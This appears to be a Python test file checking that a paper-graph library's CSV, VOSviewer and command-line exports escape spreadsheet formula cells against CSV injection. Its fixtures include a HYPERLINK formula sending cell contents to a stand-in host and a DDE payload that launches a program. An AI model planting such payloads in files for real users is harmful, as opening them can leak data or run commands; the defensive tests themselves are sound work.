"""Exports neutralise cells a spreadsheet would run as formulas (OWASP CSV injection)."""

from __future__ import annotations

import csv

import networkx as nx
import pandas as pd
import pytest

import graphlib_papers as gp
from graphlib_papers.cli import main

HOSTILE = {
    "a:1": '=HYPERLINK("http://x.example/?"&A1,"click")',
    "a:2": "+1+1",
    "a:3": "-2+3",
    "a:4": "@SUM(1,2)",
    "a:5": "\tTab Start",
    "a:6": "\rCarriage",
    "a:7": "'t Hooft",
    "a:8": "Ada Byron",
}


def _graph():
    G = nx.Graph()
    for n, name in HOSTILE.items():
        G.add_node(n, name=name, note="=cmd|' /C calc'!A0" if n == "a:1" else "plain")
    G.add_edges_from([("a:1", "a:2", {"weight": 1.0}), ("a:3", "a:8", {"weight": 2.0})])
    return G


def _cells(path, delimiter=","):
    with open(path, newline="", encoding="utf-8") as fh:
        return [cell for row in csv.reader(fh, delimiter=delimiter) for cell in row]


def _formula_like(cell):
    return cell[:1] in ("=", "+", "-", "@", "\t", "\r")


def test_csv_cells_are_neutralised_and_reversible(tmp_path):
    nodes, edges = gp.write_csv(_graph(), tmp_path / "n.csv", tmp_path / "e.csv")
    cells = _cells(nodes) + _cells(edges)
    assert not [c for c in cells if _formula_like(c)]
    table = pd.read_csv(nodes, keep_default_na=False)
    assert table.set_index("id").loc["a:1", "note"] == "'=cmd|' /C calc'!A0"
    # the documented undo: drop the one leading apostrophe of every text cell with one
    undone = table["label"].map(lambda c: c[1:] if c.startswith("'") else c)
    assert dict(zip(table["id"], undone, strict=True)) == HOSTILE


def test_csv_raw_values_on_request(tmp_path):
    nodes, _ = gp.write_csv(_graph(), tmp_path / "n.csv", tmp_path / "e.csv",
                            escape_formulas=False)
    labels = set(pd.read_csv(nodes, keep_default_na=False)["label"])
    assert {"+1+1", "-2+3", "@SUM(1,2)", "'t Hooft"} <= labels


def test_vosviewer_map_is_neutralised(tmp_path):
    m, _ = gp.write_vosviewer(_graph(), tmp_path / "map.txt", tmp_path / "net.txt")
    labels = _cells(m, delimiter="\t")[3::2]
    assert len(labels) == len(HOSTILE)
    assert not [c for c in labels if _formula_like(c)]
    assert "'+1+1" in labels and "'@SUM(1,2)" in labels and "Ada Byron" in labels
    m, _ = gp.write_vosviewer(_graph(), tmp_path / "map2.txt", tmp_path / "net2.txt",
                              escape_formulas=False)
    assert "+1+1" in m.read_text(encoding="utf-8").split("\n")[2]


@pytest.mark.parametrize(("flag", "escaped"), [([], True), (["--raw-cells"], False)])
def test_cli_export_escapes_by_default(tmp_path, flag, escaped):
    src = tmp_path / "ships.csv"
    pd.DataFrame({"paper_id": ["p", "p"], "author": ["=2+5", "Ada Byron"]}).to_csv(src, index=False)
    out = tmp_path / "g.csv"
    assert main(["export", str(src), "--out", str(out), "--quiet", *flag]) == 0
    labels = set(pd.read_csv(tmp_path / "g_nodes.csv", keep_default_na=False)["label"])
    assert ("'=2+5" in labels) is escaped and ("=2+5" in labels) is not escaped
